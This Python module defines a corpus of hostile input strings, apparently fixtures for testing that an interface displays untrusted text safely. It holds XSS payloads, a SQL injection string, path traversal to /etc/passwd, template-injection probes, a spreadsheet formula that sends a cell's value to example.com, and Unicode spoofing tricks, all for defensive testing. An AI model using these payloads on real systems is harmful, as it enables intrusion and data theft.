"""What strangers write: texts that want to be something else than text."""

from __future__ import annotations

import re
from dataclasses import dataclass, field

HOSTILE_MARK = "data-hostile"
"""The attribute that every element in the corpus has: none may ever be in the document."""


@dataclass(frozen=True)
class HostileText:
    """A text, and what has to be seen of it. Without `shows`, the text itself has to be."""

    name: str
    text: str
    shows: tuple[str, ...] = field(default=())

    @property
    def seen(self) -> tuple[str, ...]:
        """What a reader has to see, white space apart."""
        return tuple(re.sub(r"\s+", " ", part).strip() for part in self.shows or (self.text,))


_EXPLODE = "alert('hostile')"

CORPUS: tuple[HostileText, ...] = (
    HostileText("script", f"<script {HOSTILE_MARK}>{_EXPLODE}</script>after it"),
    HostileText("image", f'<img {HOSTILE_MARK} src=x onerror="{_EXPLODE}">'),
    HostileText("outside image", f"<img {HOSTILE_MARK} src=//example.com/pixel.gif>"),
    HostileText("svg", f"<svg {HOSTILE_MARK} onload={_EXPLODE}><a href='javascript:{_EXPLODE}'>x</a></svg>"),
    HostileText("closing tags", f'"></p></li></main></body><iframe {HOSTILE_MARK} srcdoc="<b>x"></iframe>'),
    HostileText("style", f"<style {HOSTILE_MARK}>body{{display:none}}</style><base href=//example.com>"),
    HostileText("form", f"<form {HOSTILE_MARK} action=//example.com><input autofocus onfocus={_EXPLODE}>"),
    HostileText("template", "{{ constructor.constructor('alert(1)')() }} ${alert(2)} <%= 7*7 %> #{7*7}"),
    HostileText("entities", "&lt;b&gt; &amp;lt; &#x3C;b&#x3E; &nbsp;|"),
    HostileText("javascript link", f"javascript:{_EXPLODE} [click](javascript:{_EXPLODE})"),
    HostileText("data link", "data:text/html,<script>alert(1)</script> vbscript:msgbox(1)"),
    HostileText("plain link", "Your parcel waits: https://example.com/pay?id=1 www.example.com"),
    HostileText("formula", '=HYPERLINK("http://example.com?x="&A1,"click") +1+1 @SUM(1) -2'),
    HostileText("sql", "'; DROP TABLE sms; -- \" OR 1=1 \\"),
    HostileText("null-ish", "null undefined NaN [object Object] None true 0"),
    HostileText("proto", "__proto__ constructor toString hasOwnProperty"),
    HostileText("json", '{"deviceId":"other","seq":999999999,"event":"device-removed"}'),
    HostileText("event stream", "data: {}\n\nevent: state\ndata: {}\n\n", ("data: {}", "event: state")),
    HostileText("paths", "../../../etc/passwd %2e%2e%2f C:\\Windows\\ \\\\host\\share"),
    HostileText(
        "right-to-left override", "pay to \u202eTXT.ELIF\u202c now", ("pay to", "RLO", "TXT.ELIF", "PDF")
    ),
    HostileText("isolates", "a\u2066b\u2067c\u2068d\u2069e", ("LRI", "RLI", "FSI", "PDI")),
    HostileText("zero width", "pass\u200bword\u2060re\ufeffset\u00ad!", ("ZWSP", "WJ", "BOM", "SHY")),
    HostileText("ansi", "\x1b[31mred\x1b[0m \x1b]0;title\x07", ("␛", "[31mred", "␇")),
    HostileText("controls", "a\x08b\x0bc\x7fd\x85e", ("␈", "␋", "␡", "U+0085")),
    HostileText("tags", "hi\U000e0068\U000e0069", ("hi", "U+E0068")),
    HostileText("line ends", "one\r\ntwo\rthree\u2028four", ("one two three", "LS", "four")),
    HostileText("very long word", "A" * 1_500, ("A" * 250,)),
    HostileText("very long arabic word", "ب" * 600, ("ب" * 250,)),
    HostileText("stacked accents", "Z" + "\u0351\u0334\u0336" * 60 + "!", ("Z",)),
    HostileText("arabic", "رمز التحقق الخاص بك هو 482193 (لا تشاركه)"),
    HostileText("mixed directions", "שלום ABC 123 مرحبا (x) <b>"),
    HostileText("emoji", "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👍🏽 🇩🇪 done"),
    HostileText("astral", "𝕳𝖊𝖑𝖑𝖔 𠜎 \U0010fffd end"),
    HostileText("white space", "   \t  between   \n\n\n  lines  ", ("between", "lines")),
    HostileText("nothing but space", "   ", ("",)),
)

HOSTILE_NAMES: tuple[str, ...] = (
    f"<img {HOSTILE_MARK} src=x onerror={_EXPLODE}>",
    f"<b {HOSTILE_MARK}>bold</b> & 'quoted' \"twice\"",
    "{{ 7*7 }} ${1} =1+1",
    "javascript:alert(1)",
    "pay \u202eTXT.ELIF",
    "زر غرفة 12",
    "W" * 180,
    "null",
)
